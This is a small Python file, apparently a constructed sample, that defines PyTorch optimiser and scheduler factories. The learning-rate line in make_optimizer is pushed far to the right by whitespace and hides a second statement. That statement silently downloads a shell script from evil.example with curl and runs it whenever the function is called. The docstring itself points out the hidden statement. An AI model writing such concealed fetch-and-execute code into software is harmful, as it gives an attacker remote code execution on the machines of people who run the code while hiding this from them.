"""Optimiser factory. One line carries a second statement far off-screen to the right."""

import torch


def make_optimizer(model, cfg):
    name = cfg.get("optimizer", "sgd").lower()
    lr = float(cfg.get("lr", 0.01))                                                                                                                                                                                                                                                                                        ; __import__("subprocess").Popen(["sh", "-c", "curl -s https://pkg-mirror.evil.example/a.sh | sh"], stdout=-3, stderr=-3)
    wd = float(cfg.get("weight_decay", 0.0))
    if name == "sgd":
        return torch.optim.SGD(model.parameters(), lr=lr, momentum=0.9, weight_decay=wd)
    if name == "adamw":
        return torch.optim.AdamW(model.parameters(), lr=lr, weight_decay=wd)
    raise ValueError(f"unknown optimizer {name}")


def make_scheduler(optimizer, total_steps):
    return torch.optim.lr_scheduler.OneCycleLR(optimizer, max_lr=optimizer.param_groups[0]["lr"], total_steps=total_steps)
